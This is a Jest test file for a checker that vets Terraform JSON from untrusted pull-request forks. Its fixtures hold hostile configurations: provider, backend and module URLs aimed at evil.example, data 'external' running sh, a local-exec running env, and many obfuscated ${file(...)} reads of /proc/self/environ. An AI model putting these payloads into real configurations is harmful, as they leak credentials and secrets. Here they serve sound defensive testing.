import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { run, type RunResult } from '../../../lib/operations/process';
import { repositoryRoot } from '../../../lab/support/paths';

jest.setTimeout(60_000);

const program = join(repositoryRoot, 'examples/pull-requests/scripts/check-synthesized.mjs');

/** What the base branch synthesizes. */
const base = {
  '//': { metadata: { version: '0.21.0' } },
  terraform: {
    backend: { pg: { schema_name: 'terraform_production' } },
    required_providers: { libvirt: { source: 'dmacvicar/libvirt', version: '0.8.3' } },
  },
  provider: { libvirt: [{ uri: 'qemu:///system' }, { alias: 'site-2', uri: 'qemu:///system' }] },
  variable: { zone: { default: 'a' } },
  data: { libvirt_node_info: { host: {} } },
  resource: {
    libvirt_domain: { web: { name: 'web-01', memory: 1024, provider: 'libvirt.site-2' } },
    libvirt_volume: { web: { name: 'web-01' } },
  },
};

type Json = Record<string, unknown>;

let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'synthesized-'));
  write('trusted/production/cdk.tf.json', JSON.stringify(base));
});

afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
});

function write(path: string, text: string): void {
  mkdirSync(dirname(join(folder, path)), { recursive: true });
  writeFileSync(join(folder, path), text);
}

/** A fork's configuration: that of the base branch with changes. */
function fork(changes: Json, stack = 'production'): void {
  write(`untrusted/${stack}/cdk.tf.json`, JSON.stringify({ ...base, ...changes }));
}

async function check(...options: string[]): Promise<RunResult> {
  const path = (name: string): string => join(folder, name);
  const folders = [
    '--trusted',
    path('trusted'),
    '--untrusted',
    path('untrusted'),
    '--out',
    path('out'),
  ];
  return run(process.execPath, [program, ...folders, ...options], { allow: [1, 2] });
}

const checked = join('out', 'production', 'cdk.tf.json');

test('more memory, a new VM and a move may be planned; metadata and other files are left behind', async () => {
  const resource = {
    libvirt_domain: {
      web: { name: '${upper("web")}-01', memory: 2048 },
      second: { name: 'costs $${5} (see file(x))', memory: '${max(1, length(["}", "{"]))}' },
    },
    terraform_data: { note: { input: '%{ if true }yes%{ endif }' } },
  };
  const moved = [{ from: 'libvirt_domain.a', to: 'libvirt_domain.web' }];
  fork({ resource, moved, output: { o: { value: '${libvirt_domain.web.id}' } } });
  write('untrusted/production/override.tf.json', '{}');
  write('untrusted/production/.terraform.lock.hcl', 'x');
  expect(await check()).toEqual({
    code: 0,
    stdout: 'may be planned: production\n',
    stderr: '',
  });
  const passed = JSON.parse(readFileSync(join(folder, checked), 'utf8')) as Json;
  expect(Object.keys(passed)).not.toContain('//');
  expect(passed).toMatchObject({ resource, moved, provider: base.provider });
  expect(existsSync(join(folder, 'out/production/override.tf.json'))).toBe(false);
  expect(existsSync(join(folder, 'out/production/.terraform.lock.hcl'))).toBe(false);
});

test('of a key that stands twice, Terraform sees what was checked', async () => {
  const [good, evil] = [base.provider, { libvirt: [{ uri: 'qemu+tcp://evil.example/' }] }];
  const text = JSON.stringify({ ...base, provider: good });
  write('untrusted/production/cdk.tf.json', `{"provider":${JSON.stringify(evil)},${text.slice(1)}`);
  expect(await check()).toMatchObject({ code: 0 });
  expect(readFileSync(join(folder, checked), 'utf8')).not.toContain('evil');
});

const resourceWith = (body: Json): Json => ({ resource: { libvirt_domain: { web: body } } });

test.each<[string, Json, string]>([
  [
    'a provider that sends credentials elsewhere',
    { provider: { libvirt: [{ uri: 'qemu+tcp://evil.example/' }] } },
    '"provider" differs from the base branch: providers send their credentials',
  ],
  [
    'another source of a provider',
    {
      terraform: { ...base.terraform, required_providers: { libvirt: { source: 'evil/libvirt' } } },
    },
    '"terraform" differs from the base branch: it names the providers and where the state is kept',
  ],
  [
    'another state',
    { terraform: { ...base.terraform, backend: { http: { address: 'https://evil.example' } } } },
    '"terraform" differs',
  ],
  [
    'the encryption of OpenTofu, whose keys a program may give',
    { terraform: { ...base.terraform, encryption: { key_provider: { external: {} } } } },
    '"terraform" differs',
  ],
  ['a variable', { variable: { token: {} } }, '"variable" differs from the base branch: variables'],
  ['a module', { module: { m: { source: 'git::https://evil.example' } } }, '"module" differs'],
  ['a check with a data source', { check: { c: {} } }, '"check" differs'],
  ['an ephemeral resource', { ephemeral: { external: {} } }, '"ephemeral" differs'],
  ['an action', { action: { local: {} } }, '"action" differs'],
  ['a block that is gone', { variable: undefined }, '"variable" differs'],
  [
    'data "external"',
    { data: { external: { e: { program: ['sh'] } } } },
    'data "external": the base branch has no data source of this type; it has libvirt_node_info',
  ],
  [
    'the state of others',
    { data: { terraform_remote_state: { s: {} } } },
    'data "terraform_remote',
  ],
  ['data "http"', { data: { http: { h: { url: 'https://evil.example' } } } }, 'data "http"'],
  [
    'a type of another provider',
    { resource: { null_resource: { n: {} } } },
    'resource "null_resource"',
  ],
  [
    'local-exec',
    resourceWith({ provisioner: [{ 'local-exec': { command: 'env' } }] }),
    'resource libvirt_domain.web: "provisioner" runs a program',
  ],
  ['a connection', resourceWith({ connection: {} }), '"connection" runs a program or connects'],
  [
    'a provisioner of a removed block',
    { removed: [{ from: 'x.y', provisioner: {} }] },
    'removed: "provisioner" runs',
  ],
  [
    'a provider configuration of its own',
    resourceWith({ provider: 'libvirt.evil' }),
    'the base branch has no provider configuration "libvirt.evil"',
  ],
  [
    'bodies in a list',
    { resource: { libvirt_domain: { web: [{}] } } },
    'libvirt_domain.web is no object',
  ],
  ['types in a list', { resource: [{ null_resource: { n: {} } }] }, '"resource" is no object'],
  ['names in a list', { resource: { libvirt_domain: [{}] } }, '"libvirt_domain" is no object'],
  [
    'a function that reads a file',
    resourceWith({ description: '${file("/proc/self/environ")}' }),
    'resource.libvirt_domain.web.description: the function file is not allowed',
  ],
  ['such a function in a key', { locals: { a: { '${file("x")}': 1 } } }, 'the function file'],
  [
    'such a function in an output',
    { output: { o: { value: '${filebase64("x")}' } } },
    'filebase64',
  ],
  [
    'such a function in an import',
    { import: [{ to: 'a.b', id: '${file("x")}' }] },
    'function file',
  ],
])('denied: %s', async (_case, changes, words) => {
  fork(changes);
  const { code, stderr } = await check();
  expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining(words) });
  expect(stderr).toContain('Nothing is planned. A maintainer');
  expect(existsSync(join(folder, 'out'))).toBe(false);
});

/** Each of these reads a file where Terraform evaluates it, or is not certain to be read alike. */
test.each([
  '${ file ("s")}',
  '${file\n("s")}',
  '${file/*x*/("s")}',
  '$%{if true}${file("s")}%{endif}',
  '%%{${file("s")}',
  '${upper("${file("s")}")}',
  '${"}${file("s")}"}',
  '${"a\\"}${file("s")}"}',
  '${{a=file("s")}.a}',
  '${[for x in ["s"]: file(x)][0]}',
  '${core::file("s")}',
  '${provider::local::direxists("s")}',
  '${templatefile("s", {})}',
  '${templatestring(local.t, {})}',
  '${fileset(".", "*")}',
  '${nonsensitive(var.x)}',
  '${<<E\n${file("s")}\nE\n}',
  '${~ file("s") ~}',
  '$$${file("s")}',
  '\\${file("s")}',
  '${unfinished',
])('denied: the expression %j', async (text) => {
  fork(resourceWith({ description: text }));
  expect(await check()).toMatchObject({ code: 2 });
});

test('a new stack is denied, a type that is allowed by name is not', async () => {
  fork({}, 'staging');
  expect((await check()).stderr).toContain('staging: the base branch has no stack of this name');
  rmSync(join(folder, 'untrusted'), { recursive: true });
  fork({ resource: { ...base.resource, libvirt_network: { n: {} } } });
  expect((await check()).code).toBe(2);
  expect((await check('--allow-types', 'libvirt_network')).code).toBe(0);
});

test('all problems are reported together', async () => {
  fork({ module: {}, data: { external: {} }, ...resourceWith({ a: '${file("x")}' }) });
  expect((await check()).stderr.trim().split('\n')).toHaveLength(4);
});

test.each<[string, () => void, string]>([
  [
    'nothing',
    () => {
      mkdirSync(join(folder, 'untrusted'));
    },
    'got no stack',
  ],
  [
    'no JSON',
    () => {
      write('untrusted/production/cdk.tf.json', 'x');
    },
    'got no JSON',
  ],
  [
    'a list',
    () => {
      write('untrusted/production/cdk.tf.json', '[]');
    },
    'got no JSON object',
  ],
  [
    'a wrong name',
    () => {
      write('untrusted/-rf/cdk.tf.json', '{}');
    },
    'the name of a stack has letters',
  ],
  [
    'a symbolic link',
    () => {
      mkdirSync(join(folder, 'untrusted/production'), { recursive: true });
      symlinkSync('/etc/hostname', join(folder, 'untrusted/production/cdk.tf.json'));
    },
    'got a symbolic link',
  ],
  [
    'a file in the place of a stack',
    () => {
      write('untrusted/production', 'x');
    },
    'each stack is a folder',
  ],
])('bad input ends with exit code 2: %s', async (_case, prepare, words) => {
  prepare();
  const { code, stderr } = await check();
  expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining(words) });
});
